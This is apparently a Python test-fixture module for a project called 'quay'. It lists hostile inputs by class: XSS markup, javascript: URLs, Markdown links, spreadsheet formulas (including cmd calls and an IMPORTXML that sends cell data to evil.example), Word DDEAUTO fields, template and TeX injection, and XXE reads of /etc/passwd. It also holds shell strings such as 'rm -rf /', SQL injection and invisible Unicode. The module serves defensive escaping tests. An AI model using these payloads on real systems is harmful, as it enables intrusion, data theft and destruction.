"""Texts that would act if they could, of every class that the public lists have (scripts in pages, formulas, Markdown,
Word's fields, templates, TeX, data formats, characters that are not seen). They are our own."""

from collections.abc import Mapping

_MARKUP = [
    "<script>alert('quay')</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "</title></style></textarea></script><script>alert(1)</script>",
    "</p></article></section><iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>",
    "--><body onload=alert(1)><!--",
    "<!--><img src=x onerror=alert(1)>--!><b>",
    "<![CDATA[<b>x</b>]]> <?php echo 1 ?>",
    "<base href=https://evil.example/><form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<style>*{background:url(https://evil.example/)}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<details open ontoggle=alert(1)><video><source onerror=alert(1)></video>",
    "<template><object data=//evil.example/x.swf></template><embed src=//evil.example>",
    "<x contenteditable onblur=alert(1)>` onfocus=alert(1) <plaintext>",
    "<\u017fcript>alert(1)</\u017fcript> ＜script＞alert(1)＜/script＞ +ADw-script+AD4-",
    "&lt;b&gt; &#x3c;script&#x3e; &amp;lt; &#0000106avascript &NewLine;&Tab;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e \\x3c",
]  # fmt: skip
_ADDRESSES = [
    "javascript:alert(document.domain)",
    " JaVa\tScript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "view-source:file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\share\\x",
    "https://evil.example@quay.example:80/\"onclick=\"alert(1)",
    "https://quay.example/<script>alert(1)</script>?a={b}&c=%zz#d#e",
    "mailto:a@quay.example?subject=\"><script>alert(1)</script>",
    "https://[::1/x",
    "www.evil.example and http://evil.example/x",
]  # fmt: skip
_MARKDOWN = [
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "![a][b]\n\n[b]: https://evil.example/x.png 'x'",
    "<https://evil.example> <a@evil.example> <javascript:alert(1)>",
    "# heading\n- item\n1. one\n> quotation\n---\n| a | b |\n| - | - |",
    "```\n</code></pre><script>alert(1)</script>\n``` ` `` *a* **b** _c_ ~~d~~",
    "    <script>alert(1)</script>\n===\n[^1]: note :smile: $x$ @name #1",
    "[x](<javascript:alert(1)> \"t\") [y]( data:text/html,x ) \\[z\\](x)",
    "<a href='x'\n\n<div>\n*x*\n</div>",
    "1. one", "2) two", "- item", "+ item", "* item", "~~~ code", ": term", "===", "| a |", "a: b\n---",
]  # fmt: skip
_FORMULAS = [
    "=HYPERLINK(\"https://evil.example\",\"open\")",
    "＝cmd|' /C calc'!A0",
    "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＠SUM(1)", "−1+1",
    "one\nja\tva\rscript:two\t\tx", "\t=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
    "'=1+1", "\"=1+1\"", "\";=1+1;\"", "\",=1+1,\"", "%0A=1+1", ";=1+1\r\n=1+1",
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"https://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}", "_x0041_", "1E5", "00123", "2025-03-14", "TRUE", "#REF!",
]  # fmt: skip
_FIELDS = [
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" }",
    "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\"",
    "{ INCLUDETEXT \"https://evil.example/x.xml\" } { INCLUDEPICTURE \"https://evil.example/x.png\" \\d }",
    "\u0013 INCLUDEPICTURE \"https://evil.example/x.png\" \u0014 x \u0015",
    "<w:fldSimple w:instr=\" DDE cmd x \"/><w:instrText>QUOTE 1</w:instrText>",
    "</w:t></w:r></w:p><w:altChunk r:id=\"rId1\"/>",
    "<o:OLEObject Type=\"Link\"/> MACROBUTTON x { AUTOTEXT x }",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{{x}}} [[${7*7}]]",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{who} {0} {title!r} {quote} %s %(number)s %n",
    "#set page(fill: red) #read(\"/etc/passwd\") #eval(\"1+1\") $1/0$ @ref <label> #image(\"x.png\")",
    "*bold* _it_ `raw` = Heading\n/ term: x\n\\u{1f600} ~ -- --- // comment /* x */",
    "\\input{/etc/passwd} \\write18{calc} \\def\\x{\\x}\\x ^^5c % comment $$ & # _ ~",
    "} @preamble{\"\\input{x}\"} @comment{x} , title = {y} #",
    "{unbalanced", "unbalanced}", "}{", "\\", "trailing \\", "<b>bold</b> <i>x</i> <sup>2</sup>",
    "$(calc) `calc` ; rm -rf / | calc && calc",
    "' OR 1=1 -- \" ; DROP TABLE claims; /*",
]  # fmt: skip
_DATA = [
    "- \\\\ _ : ; ( ) \" ' / , % # ! * @ . { } [ ]",
    "\"}], \"x\": [{\"y\": \"",
    "</script><!--<script>\u2028\u2029]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?>&#xFFFE;&#0;",
    "{\"__proto__\": {\"address\": \"\u2028\u2029alert(1)\"}} ends its block after a few words",
    "__proto__ constructor null undefined NaN -0 1e999",
    "\r\nBcc: all@evil.example\r\n\r\n.\r\nFrom ",
]  # fmt: skip
_UNSEEN = [
    "\u202etxt.exe\u202c \u2066hidden\u2069",
    "a\x01c\x08d\x0be\x0cf\x1bg\x1fh\x7fi\x80j\x85k\x9fl",
    "\ufffea\uffffb\ufff9c\U0001fffed",
    "a\u200bb\u200cc\u200dd\u2060e\u00adf\u034fg\u061ch\u200ei\u200fj\u180ek",
    "⟨U+202E⟩ ⟨U+0000⟩ ⟨U+XYZ⟩",
    "a\ufeff b\ufeffc ﾉ T\u0334i\u0334d\u0334e\u0334",
    "\u2028a\u2029b\x1cc\x1dd\x1ee\u3000f\u00a0g",
    "Z\u0351\u036b\u0343a\u0321l\u0320g\u0336o\u0489 \U000e0041\U000e007f 👩\u200d🚀 🇦🇧 ๏\u0e49\u0e49\u0e49",
    "نصّ עִבְרִית 中文 \u202bעברית (abc) 123\u202c",
]  # fmt: skip

CLASSES: Mapping[str, list[str]] = {
    "markup": _MARKUP,
    "addresses": _ADDRESSES,
    "markdown": _MARKDOWN,
    "formulas": _FORMULAS,
    "fields": _FIELDS,
    "templates": _TEMPLATES,
    "data": _DATA,
    "unseen": _UNSEEN,
}

# One of every kind on one line, for what is looked at more closely.
PAYLOADS = [
    *_MARKUP[:7], _MARKUP[8], *_MARKUP[9:11], _MARKUP[18], _ADDRESSES[0], _MARKDOWN[0], *_FORMULAS[:2], _TEMPLATES[0],
    _UNSEEN[0],
]  # fmt: skip
DANGEROUS = "//script | //iframe | //img | //form | //input | //base | //link | //object | //embed | //frame"
